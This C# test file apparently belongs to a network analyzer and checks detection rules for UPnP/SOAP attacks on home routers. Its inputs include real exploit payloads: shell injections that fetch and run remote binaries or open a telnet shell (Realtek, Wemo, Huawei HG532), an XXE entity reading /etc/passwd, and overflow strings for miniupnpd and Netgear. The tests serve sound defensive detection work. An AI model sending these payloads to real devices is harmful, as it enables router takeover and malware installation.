using Analyzer.Output;
using Analyzer.Tests.Rules.Support;
using static Analyzer.Tests.Rules.Support.Hosts;

namespace Analyzer.Tests.Rules.Soap;

public class SoapControlRuleTests
{
    private const string Control = "/ctl/IPConn";
    private static readonly string Host = $"{Router}:5000";
    private static ushort _port = 50000;

    private static ScenarioCapture Call(ScenarioCapture s, string client, ulong mac, string action,
        (string, string)[] args, string? response, string? soapAction = null, string? bodyPrefix = null, string service = HttpText.WanIp) =>
        s.Http(client, _port++, Router, 5000, HttpText.SoapRequest(Host, Control, service, action, args, soapAction, bodyPrefix: bodyPrefix),
            response, mac, RouterMac);

    [Fact]
    public void AnIgdActionFromTheInternetIsWanControl()
    {
        var s = Call(new ScenarioCapture(), Attacker, RouterMac, "GetExternalIPAddress", [],
            HttpText.SoapResponse(HttpText.WanIp, "GetExternalIPAddress", [("NewExternalIPAddress", RouterWan)]));

        var alerts = AlertAssert.Only(s.Run().Alerts, "igd-control-from-wan");
        Assert.Equal(2, alerts.Count);
        Assert.Contains("IGD GetExternalIPAddress from 203.0.113.50 outside the LAN", alerts[0].Summary);
        Assert.Contains("answered GetExternalIPAddress to 203.0.113.50", alerts[1].Summary);
    }

    [Fact]
    public void AnIgdActionFromTheLanIsNormal()
    {
        var s = Call(new ScenarioCapture(), Client, ClientMac, "GetExternalIPAddress", [],
            HttpText.SoapResponse(HttpText.WanIp, "GetExternalIPAddress", [("NewExternalIPAddress", RouterWan)]));

        AlertAssert.None(s.Run().Alerts);
    }

    [Fact]
    public void ReadingTwentyTableEntriesInAMinuteIsASweep()
    {
        var s = new ScenarioCapture();
        for (int i = 0; i < 25; i++)
            Call(s, Client, ClientMac, "GetGenericPortMappingEntry", [("NewPortMappingIndex", i.ToString())],
                HttpText.SoapResponse(HttpText.WanIp, "GetGenericPortMappingEntry", [("NewExternalPort", (40000 + i).ToString())])).Wait(0.5);

        var alert = Assert.Single(AlertAssert.Only(s.Run().Alerts, "igd-enum-sweep"));
        Assert.Contains("20 GetGenericPortMappingEntry indexes within 60 s", alert.Summary);
    }

    [Fact]
    public void ListingASmallTableOnceBesideItsOwnMappingIsNormal()
    {
        // upnpc -a, then upnpc -l: indexes until fault 713. The same sweep by a host mapping nothing is low recon (FullSweepTests).
        var s = Call(new ScenarioCapture(), Client, ClientMac, "AddPortMapping", HttpText.AddPortMappingArgs(40000, Client, 40000),
            HttpText.SoapResponse(HttpText.WanIp, "AddPortMapping", []));
        for (int i = 0; i < 4; i++)
            Call(s, Client, ClientMac, "GetGenericPortMappingEntry", [("NewPortMappingIndex", i.ToString())],
                HttpText.SoapResponse(HttpText.WanIp, "GetGenericPortMappingEntry", [("NewExternalPort", (40000 + i).ToString())]));
        Call(s, Client, ClientMac, "GetGenericPortMappingEntry", [("NewPortMappingIndex", "4")], HttpText.SoapFault(713, "SpecifiedArrayIndexInvalid"));

        AlertAssert.None(s.Run().Alerts);
    }

    [Fact]
    public void AnOverlongSoapActionIsTheMiniupnpdOverflow()
    {
        var s = Call(new ScenarioCapture(), Client, ClientMac, "GetExternalIPAddress", [], null,
            soapAction: "\"" + HttpText.WanIp + "#" + new string('A', 2200));

        var alert = Assert.Single(AlertAssert.Only(s.Run().Alerts, "soap-miniupnpd-soapaction-overflow"));
        Assert.Contains("SOAPAction method of 2200 bytes (limit 256), unbalanced quote", alert.Summary);
    }

    [Theory]
    [InlineData("\"", "soap-miniupnpd-soapaction-noquote", "lone quote")]
    [InlineData("'", "soap-miniupnpd-soapaction-noquote", "lone quote")]
    [InlineData(HttpText.WanIp, "soap-miniupnpd-soapaction-nohash", "without '#'")]
    public void DegenerateSoapActionsAreTheMiniupnpdParserBugs(string soapAction, string rule, string evidence)
    {
        var s = Call(new ScenarioCapture(), Client, ClientMac, "GetExternalIPAddress", [], null, soapAction: soapAction);

        var alert = Assert.Single(AlertAssert.Only(s.Run().Alerts, rule));
        Assert.Contains(evidence, alert.Summary);
    }

    [Fact]
    public void AnUnquotedButCompleteSoapActionIsOnlySloppy()
    {
        var s = Call(new ScenarioCapture(), Client, ClientMac, "GetExternalIPAddress", [],
            HttpText.SoapResponse(HttpText.WanIp, "GetExternalIPAddress", [("NewExternalIPAddress", RouterWan)]),
            soapAction: HttpText.WanIp + "#GetExternalIPAddress");

        AlertAssert.None(s.Run().Alerts);
    }

    [Fact]
    public void AnAddPortMappingWithoutItsDescriptionIsTheMiniupnpdNullDereference()
    {
        var args = HttpText.AddPortMappingArgs(40000, Client, 40000).Where(a => a.Name != "NewPortMappingDescription").ToArray();
        var s = Call(new ScenarioCapture(), Client, ClientMac, "AddPortMapping", args, null);

        var alert = Assert.Single(AlertAssert.Only(s.Run().Alerts, "soap-miniupnpd-missing-args"));
        Assert.Equal(Severity.High, alert.Severity);
        Assert.Contains("without NewPortMappingDescription", alert.Summary);
    }

    [Fact]
    public void AShellCommandInNewInternalClientIsTheRealtekInjection()
    {
        var args = HttpText.AddPortMappingArgs(47450, "`cd /var; wget http://198.51.100.66/x -O- > z; sh z`", 44382, "syncthing", 0);
        var s = new ScenarioCapture().Http(Client, 51000, Router, 52869,
            HttpText.SoapRequest($"{Router}:52869", "/wanipcn.xml", HttpText.WanIp, "AddPortMapping", args), null, ClientMac, RouterMac);

        var alert = Assert.Single(AlertAssert.Only(s.Run().Alerts, "soap-realtek-miniigd-injection"));
        Assert.Contains("not an IP address (shell syntax '`')", alert.Summary);
    }

    [Fact]
    public void CommandSubstitutionInAWemoArgumentIsInjection()
    {
        var s = new ScenarioCapture().Http(Client, 51000, Nas, 49153,
            HttpText.SoapRequest($"{Nas}:49153", "/upnp/control/basicevent1", "urn:Belkin:service:basicevent:1", "SetSmartDevInfo",
                [("SmartDevURL", "http://x/`busybox telnetd -l /bin/sh`")]), null, ClientMac, NasMac);

        var alert = Assert.Single(AlertAssert.Only(s.Run().Alerts, "soap-command-injection"));
        Assert.Contains("argument SmartDevURL holds '`'", alert.Summary);
    }

    [Fact]
    public void ADescriptionWithSemicolonsIsNotInjection()
    {
        var args = HttpText.AddPortMappingArgs(40000, Client, 40000, "Skype (TCP); call | video");
        var s = Call(new ScenarioCapture(), Client, ClientMac, "AddPortMapping", args, HttpText.SoapResponse(HttpText.WanIp, "AddPortMapping", []));

        AlertAssert.None(s.Run().Alerts);
    }

    [Fact]
    public void AHuaweiUpgradeWithShellSyntaxIsTheHg532Exploit()
    {
        var s = new ScenarioCapture().Http(Attacker, 51000, Router, 37215,
            HttpText.SoapRequest($"{Router}:37215", "/ctrlt/DeviceUpgrade_1", "urn:schemas-upnp-org:service:WANPPPConnection:1", "Upgrade",
                [("NewStatusURL", "$(/bin/busybox wget -g 198.51.100.66 -l /tmp/x -r /y)"), ("NewDownloadURL", "$(echo HUAWEIUPNP)")]),
            null, RouterMac, RouterMac);

        Assert.Single(s.Run().Alerts, a => a.Rule == "soap-huawei-hg532-upgrade");
    }

    [Fact]
    public void ADoctypeInASoapBodyIsAnXmlAttack()
    {
        var s = Call(new ScenarioCapture(), Client, ClientMac, "GetExternalIPAddress", [], null,
            bodyPrefix: "<?xml version=\"1.0\"?>\r\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\r\n");

        var alert = Assert.Single(AlertAssert.Only(s.Run().Alerts, "soap-xml-xxe-bomb"));
        Assert.Contains("carries DOCTYPE, ENTITY", alert.Summary);
    }

    [Fact]
    public void AnOverlongMacAddressInNetgearAuthenticateIsTheUpnpdOverflow()
    {
        var s = new ScenarioCapture().Http(Client, 51000, Router, 5000,
            HttpText.SoapRequest(Host, "/soap/server_sa", "urn:NETGEAR-ROUTER:service:ParentalControl:1", "Authenticate",
                [("NewMACAddress", new string('A', 64))]), null, ClientMac, RouterMac);

        Assert.Single(AlertAssert.Only(s.Run().Alerts, "soap-netgear-upnpd"));
    }

    [Fact]
    public void APinholeToSshForAWeekIsPinholeAbuse()
    {
        var s = new ScenarioCapture().Http(Client, 51000, Router, 5000,
            HttpText.SoapRequest(Host, "/ctl/IP6FCtl", "urn:schemas-upnp-org:service:WANIPv6FirewallControl:1", "AddPinhole",
                [("RemoteHost", ""), ("RemotePort", "0"), ("InternalClient", "fd00::20"), ("InternalPort", "22"), ("Protocol", "6"), ("LeaseTime", "604800")]),
            HttpText.SoapResponse("urn:schemas-upnp-org:service:WANIPv6FirewallControl:1", "AddPinhole", [("UniqueID", "7")]), ClientMac, RouterMac);

        var alert = Assert.Single(AlertAssert.Only(s.Run().Alerts, "igd-pinhole-abuse"));
        Assert.Equal(Severity.High, alert.Severity);
    }

    [Fact]
    public void AChunkSizeOf2To31FromAnIgdIsTheMiniupnpcOverflow()
    {
        var response = "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n80000000\r\n<root/>";
        var s = new ScenarioCapture().Http(Client, 51000, Router, 5000,
            HttpText.Request("GET", "/rootDesc.xml", Host, null, ("User-Agent", "Linux UPnP/1.1 MiniUPnPc/2.0")), response, ClientMac, RouterMac);

        var alert = Assert.Single(s.Run().Alerts, a => a.Rule == "soap-miniupnpc-chunked");
        Assert.Equal(Router, alert.Src.ToString());
        Assert.Contains("80000000", alert.Summary);
    }

    [Fact]
    public void AnOrdinaryChunkedDescriptionIsNormal()
    {
        var body = DescriptionBody();
        var response = $"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n{body.Length:x}\r\n{body}\r\n0\r\n\r\n";
        var s = new ScenarioCapture().Http(Client, 51000, Router, 5000,
            HttpText.Request("GET", "/rootDesc.xml", Host, null, ("User-Agent", HttpText.Miniupnpc)), response, ClientMac, RouterMac);

        AlertAssert.None(s.Run().Alerts);
    }

    private static string DescriptionBody() => Analyzer.Tests.Inventory.DescriptionInventoryTests.Description();

    [Fact]
    public void AShortPinholeToAHighPortIsNormal()
    {
        var s = new ScenarioCapture().Http(Client, 51000, Router, 5000,
            HttpText.SoapRequest(Host, "/ctl/IP6FCtl", "urn:schemas-upnp-org:service:WANIPv6FirewallControl:1", "AddPinhole",
                [("RemoteHost", ""), ("RemotePort", "0"), ("InternalClient", "fd00::20"), ("InternalPort", "3478"), ("Protocol", "17"), ("LeaseTime", "3600")]),
            HttpText.SoapResponse("urn:schemas-upnp-org:service:WANIPv6FirewallControl:1", "AddPinhole", [("UniqueID", "7")]), ClientMac, RouterMac);

        AlertAssert.None(s.Run().Alerts);
    }

    [Fact]
    public void AFirmwareUpgradeWithPlainUrlsOnAnotherPathIsNotTheHuaweiExploit()
    {
        var s = new ScenarioCapture().Http(Client, 51000, Router, 5000,
            HttpText.SoapRequest(Host, "/ctl/PPPConn", "urn:schemas-upnp-org:service:WANPPPConnection:1", "Upgrade",
                [("NewStatusURL", "http://192.168.1.1/status"), ("NewDownloadURL", "http://updates.example/fw.bin")]), null, ClientMac, RouterMac);

        Assert.DoesNotContain(s.Run().Alerts, a => a.Rule == "soap-huawei-hg532-upgrade");
    }

    [Fact]
    public void AnAuthenticateWithARealMacAddressIsNormal()
    {
        var s = new ScenarioCapture().Http(Client, 51000, Router, 5000,
            HttpText.SoapRequest(Host, "/soap/server_sa", "urn:NETGEAR-ROUTER:service:ParentalControl:1", "Authenticate",
                [("NewMACAddress", "3C:A9:F4:A8:1F:EC")]), null, ClientMac, RouterMac);

        AlertAssert.None(s.Run().Alerts);
    }

    /// <summary>A SOAP envelope POSTed with no SOAPAction header, as the Satori/Okiru worms send it.</summary>
    private static string PostWithoutSoapAction(string path, string service, string action, (string Name, string Value)[] args, string? contentType = null)
    {
        string body = "<?xml version=\"1.0\" ?>\n<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">" +
            $"<s:Body><u:{action} xmlns:u=\"{service}\">" + string.Concat(args.Select(a => $"<{a.Name}>{a.Value}</{a.Name}>")) + $"</u:{action}></s:Body></s:Envelope>\n";
        return HttpText.Request("POST", path, $"{Router}:37215", body, ("Content-Type", contentType), ("Connection", "keep-alive"), ("Accept", "*/*"),
            ("Authorization", "Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\""));
    }

    [Fact]
    public void TheHg532ExploitWithoutSoapActionIsTheHuaweiUpgrade()
    {
        var s = new ScenarioCapture().Http(Attacker, 51000, Router, 37215,
            PostWithoutSoapAction("/ctrlt/DeviceUpgrade_1", "urn:schemas-upnp-org:service:WANPPPConnection:1", "Upgrade",
                [("NewStatusURL", "$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /bins/mips;chmod 777 /tmp/x;/tmp/x)"), ("NewDownloadURL", "$(echo HUAWEIUPNP)")]),
            null, RouterMac, RouterMac);

        var alert = Assert.Single(s.Run().Alerts, a => a.Rule == "soap-huawei-hg532-upgrade");
        Assert.Contains("Upgrade to /ctrlt/DeviceUpgrade_1 without SOAPAction", alert.Summary);
        Assert.Contains("shell syntax '$('", alert.Summary);
    }

    [Fact]
    public void AnUpgradeWithoutSoapActionWithPlainUrlsOnAnotherPathIsNotTheHuaweiExploit()
    {
        var s = new ScenarioCapture().Http(Client, 51000, Router, 37215,
            PostWithoutSoapAction("/upnp/control/WANPPPConn1", "urn:schemas-upnp-org:service:WANPPPConnection:1", "Upgrade",
                [("NewStatusURL", "http://192.168.1.1/status"), ("NewDownloadURL", "http://updates.example/fw.bin")], "text/xml"),
            null, ClientMac, RouterMac);

        Assert.DoesNotContain(s.Run().Alerts, a => a.Rule == "soap-huawei-hg532-upgrade");
    }

    [Fact]
    public void AFormPostedToTheHuaweiPathIsNotSoapAndNotTheExploit()
    {
        var s = new ScenarioCapture().Http(Client, 51000, Router, 37215,
            HttpText.Request("POST", "/ctrlt/DeviceUpgrade_1", $"{Router}:37215", "NewStatusURL=%24%28reboot%29",
                ("Content-Type", "application/x-www-form-urlencoded")), null, ClientMac, RouterMac);

        Assert.DoesNotContain(s.Run().Alerts, a => a.Rule == "soap-huawei-hg532-upgrade");
    }
}
